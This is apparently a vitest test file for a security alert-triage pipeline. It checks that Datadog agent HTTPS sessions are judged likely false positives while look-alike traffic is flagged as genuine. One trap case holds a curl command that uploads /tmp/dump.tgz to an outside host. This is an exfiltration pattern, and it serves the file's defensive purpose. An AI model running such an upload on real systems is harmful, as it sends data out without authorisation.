/**
 * telemetry-intake: the Datadog agent's persistent HTTPS to its intake, seen by an NDR from the node's address (pod
 * egress SNATed by the VPC CNI) or from the agent pod. Traps: a name that only contains the vendor's domain, another
 * destination, a node without the agent, the image in a naked pod, and a process the sensor names.
 */
import { describe, expect, it } from 'vitest';
import { triageAlert } from '../../../src/triage/pipeline.js';
import { alert, indexOf, node, owner, pod } from '../../support/cluster.js';

const N1 = 'ip-10-42-21-205.eu-central-1.compute.internal';
const N2 = 'ip-10-42-44-14.eu-central-1.compute.internal';
const N3 = 'ip-10-42-80-128.eu-central-1.compute.internal';
const agent = pod('datadog-agent-bwqn4', {
  namespace: 'datadog',
  node: N1,
  ip: '10.42.20.87',
  owner: { kind: 'DaemonSet', name: 'datadog-agent' },
  containers: [{ name: 'agent', image: 'gcr.io/datadoghq/agent:7.62.2', command: ['agent', 'run'] }],
});
const naked = pod('dd-tools', { namespace: 'default', node: N2, ip: '10.42.44.200', containers: [{ name: 'agent', image: 'gcr.io/datadoghq/agent:7.62.2', command: ['agent', 'run'] }] });
const index = indexOf([node(N1, '10.42.21.205'), node(N2, '10.42.44.14'), node(N3, '10.42.80.128'), owner('DaemonSet', 'datadog-agent', 'datadog'), agent, naked]);

const flow = (srcIp: string, domain: string | undefined, dstIp = '198.51.100.20', process?: { name: string; commandLine: string }) =>
  triageAlert(alert({ time: '2027-03-16T09:58:40Z', title: 'Hidden HTTPS Tunnel', process, network: { srcIp, dstIp, dstPort: 443, protocol: 'tcp', domain } }), { index }).verdict;

describe('telemetry-intake', () => {
  it("explains the Datadog agent's session to its intake seen from the node's address", () => {
    const v = flow('10.42.21.205', 'agent-intake.logs.datadoghq.eu');
    expect(v).toMatchObject({ label: 'likely-false-positive', cause: 'workload-baseline' });
    expect(v.reasons.map((r) => r.message).join(' ')).toContain('datadog-agent-bwqn4');
  });
  it('explains the same session seen from the agent pod', () => {
    expect(flow('10.42.20.87', 'trace.agent.datadoghq.eu')).toMatchObject({ label: 'likely-false-positive', cause: 'workload-baseline' });
  });
  it("trap: a name that only contains the vendor's domain", () => {
    expect(flow('10.42.21.205', 'datadoghq.eu.files-cdn.example').label).toBe('genuine');
  });
  it('trap: another destination from the same node', () => {
    expect(flow('10.42.21.205', 'paste.example.org').label).toBe('genuine');
  });
  it('trap: a node where only a naked pod runs the agent image', () => {
    expect(flow('10.42.44.14', 'agent-intake.logs.datadoghq.eu').label).toBe('genuine');
  });
  it('trap: a node without the agent', () => {
    expect(flow('10.42.80.128', 'agent-intake.logs.datadoghq.eu').label).toBe('genuine');
  });
  it('trap: curl to the intake named by the sensor', () => {
    expect(flow('10.42.21.205', 'agent-intake.logs.datadoghq.eu', '198.51.100.20', { name: 'curl', commandLine: 'curl -T /tmp/dump.tgz https://agent-intake.logs.datadoghq.eu/' }).label).toBe('genuine');
  });
});
